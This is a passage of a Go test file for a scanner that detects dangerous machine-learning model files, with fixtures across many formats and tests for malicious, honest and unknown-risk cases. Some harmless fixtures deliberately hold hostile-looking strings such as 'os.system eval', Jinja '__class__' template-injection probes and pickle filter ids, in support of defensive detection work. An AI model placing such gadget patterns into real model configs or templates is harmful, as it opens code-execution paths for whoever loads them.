		{name: "own layer:m.keras", content: kerasFile(sequential(tree{"class_name": "Attention2", "module": "code.layers", "registered_name": "acme>Attention2", "config": tree{"fn": functionOf("builtins", "my_loss")}}))},
		{name: "words:m.keras", content: kerasFile(sequential(tree{"class_name": "Dense", "module": "keras.layers", "config": tree{"name": "__lambda__ os.system eval"}}))},
		{name: "plain:m.tflite", content: flatModel([2]string{"TFLite_Detection_PostProcess", ""}, [2]string{"FlexErf", flexOptions("Erf", tfNodeOf("Erf"))}, [2]string{"Acme", "FlexReadFile"})},
		{name: "template behind a mass:tokenizer_config.json", content: []byte(`{"added_tokens_decoder":{` + strings.Repeat(`"1":{"content":"<s>"},`, 200_000) + `"0":{}},"chat_template":"{{ x }}"}`)},
		{name: "plain:m.gguf", content: ggufFile(binary.LittleEndian, 3, "general.name", "__class__", "tokenizer.ggml.tokens", []string{"{{ x.__class__ }}"}, "tokenizer.chat_template", "{{ messages[0]['content'] }} __class__ {# x.__class__ #}")},
		{name: "plain:tokenizer_config.json", content: []byte(asJSON(tree{"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}", "auto_map": tree{"AutoTokenizer": []any{"tok.Tok", nil}}}))},
		{name: "hub:config.json", content: []byte(asJSON(tree{"model_type": "llama", "auto_map": tree{"AutoModel": "modeling_x.Model"}, "chat_template": gadget}))},
		{name: "plain:chat_template.jinja", content: []byte("use __init__ and {% raw %}{{ x.__class__ }}{% endraw %}")},
		{name: "plain:m.safetensors", content: safetensorsFile(`{"__metadata__":{"format":"pt"},"b":{"dtype":"F32","shape":[2],"data_offsets":[8,16]},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}    `, 16)},
		{name: "empty:m.safetensors", content: safetensorsFile(`{}`, 0)},
		{name: "scalar and empty tensors:m.safetensors", content: safetensorsFile(`{"s":{"dtype":"I64","shape":[],"data_offsets":[0,8]},"e":{"dtype":"F32","shape":[0,5],"data_offsets":[8,8]},"f":{"dtype":"F32","shape":[5,0],"data_offsets":[0,0]}}`, 8)},
		{name: "later types:m.safetensors", content: safetensorsFile(`{"a":{"dtype":"F4","shape":[3,2],"data_offsets":[0,3]},"b":{"dtype":"F8_E4M3","shape":[1],"data_offsets":[3,4]},"c":{"dtype":"F6_E2M3","shape":[4],"data_offsets":[4,7]}}`, 7)},
		{name: "lfs:m.safetensors", content: []byte("version https://git-lfs.github.com/spec/v1\noid sha256:0123\nsize 4\n")},
		{name: "lfs:m.onnx", content: []byte("version https://git-lfs.github.com/spec/v1\noid sha256:0123\nsize 4\n")},
		{name: "plain:m.pmml", content: []byte(`<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header description="SYSTEM &quot;x&quot;"/></PMML>`)},
		{name: "internal entity:m.pmml", content: []byte(`<!DOCTYPE PMML [<!ENTITY x "SYSTEM">]><PMML>&x;</PMML>`)},
		{name: "openvino:m.xml", content: []byte(`<net name="x" version="11"><layers><layer id="0" name="a" type="Parameter" version="opset1"/></layers></net>`)},
		{name: "plain:.zarray", content: []byte(`{"compressor": {"id": "blosc"}, "filters": [{"id": "vlen-utf8"}], "fill_value": "pickle"}`)},
		{name: "attributes:.zmetadata", content: []byte(`{"metadata": {"x/.zattrs": {"filters": [{"id": "pickle"}], "note": "pickle"}, "x/.zarray": {"filters": [{"id": "json2"}], "compressor": null}}}`)},
		{name: "plain:m.mlmodel", content: proto{}.num(1, 3).msg(coreNetwork, proto{}.msg(coreLayers, proto{}.str(1, "a")))},
		{name: "linked beside:m.mlmodel", content: proto{}.num(1, 3).msg(coreLinkedModel, proto{}.msg(1, proto{}.msg(1, proto{}.str(1, "encoder"))))},
		{name: "engine:m.engine", content: []byte("ftrt\x00\x00\x00\x00")},
	}
	for _, name := range []string{"earliest_honest", "latest_honest"} {
		files = append(files, madeFile{name: name + ":m.h5", content: hdf5File(name)})
	}
	return append(files, honestArchives()...)
}

func TestMaliciousModelsAreFoundWithTheirReason(t *testing.T) {
	for _, m := range maliciousFiles() {
		r := scanBytes(t, m.base(), m.content)
		found := false
		for _, f := range dangers(r) {
			found = found || f.Kind == m.kind && strings.Contains(strings.Join([]string{f.Opcode, f.Name, f.Args, f.Why}, " "), m.what)
			if f.Member == "" && (f.Offset < 0 || f.Offset > int64(len(m.content))) {
				t.Errorf("%s: offset %d is outside of the file", m.name, f.Offset)
			}
		}
		if !found {
			t.Errorf("%s (%s): want %s with %q, got %+v, cuts %+v", m.name, r.Format, m.kind, m.what, r.Facts, r.Cuts)
		}
	}
}

func TestHonestModelsAreNotCalledDangerous(t *testing.T) {
	for _, m := range honestFiles() {
		r := scanBytes(t, m.base(), m.content)
		if bad := dangers(r); len(bad) > 0 {
			t.Errorf("%s: got %+v", m.name, bad)
		}
		if len(r.Cuts) > 0 {
			t.Errorf("%s (%s): cuts %+v", m.name, r.Format, r.Cuts)
		}
	}
}

func TestWhatIsNotDangerousButNotInertIsSaid(t *testing.T) {
	for _, m := range []madeFile{
		{"a", onnxModel(onnxNodeOf("acme.ops", "Fancy")), CustomOperator, "acme.ops.Fancy"},
		{"m.tflite", flatModel([2]string{"Acme", ""}), CustomOperator, "Acme"},
		{"m.keras", kerasFile(sequential(tree{"class_name": "L", "module": "my.layers", "config": tree{}})), ConfigClass, "my.layers.L"},
		{"m.keras", kerasFile(sequential(tree{"class_name": "TFSMLayer", "module": "keras.layers", "config": tree{"filepath": "/srv/x"}})), RemoteCode, "/srv/x"},
		{"config.json", []byte(asJSON(tree{"auto_map": tree{"AutoModel": "org/repo--modeling.M"}})), RemoteCode, "org/repo--modeling.M"},
		{"config.json", []byte(asJSON(tree{"auto_map": tree{"AutoTokenizer": []any{"a.Slow", "a.Fast"}}})), RemoteCode, "a.Fast"},
		{"m.engine", []byte("ftrt0000"), NativeCode, "TensorRT"},
		{"m.bin", []byte("\x7fELF\x02\x01\x01"), NativeCode, "program"},
		{"m.xml", []byte(`<net name="x" version="11"><layer type="Mine" version="custom"/></net>`), CustomOperator, "Mine"},
		{"m.mlmodel", proto{}.num(1, 3).msg(coreCustomModel, proto{}.str(coreClassName, "Acme")), CustomOperator, "Acme"},
		{"m.mlmodel", proto{}.num(1, 3).msg(corePipelineClassifier, proto{}.msg(1, proto{}.msg(1, proto{}.msg(coreNetworkClassifier, proto{}.msg(coreLayers, proto{}.msg(coreLayerCustom, proto{}.str(coreClassName, "Acme"))))))), CustomOperator, "Acme"},
		{"m.pb", tfGraphOf(tfNodeOf("TRTEngineOp")), NativeCode, "TensorRT"},
	} {
		r := scanBytes(t, m.name, m.content)
		found := false
		for _, f := range r.Facts {
			found = found || f.Kind == m.kind && f.Verdict == Unknown && strings.Contains(f.Opcode+f.Name+f.Args+f.Why, m.what)
		}
		if !found {
			t.Errorf("%s: want %s %q, got %+v", m.name, m.kind, m.what, r.Facts)
		}
	}
}
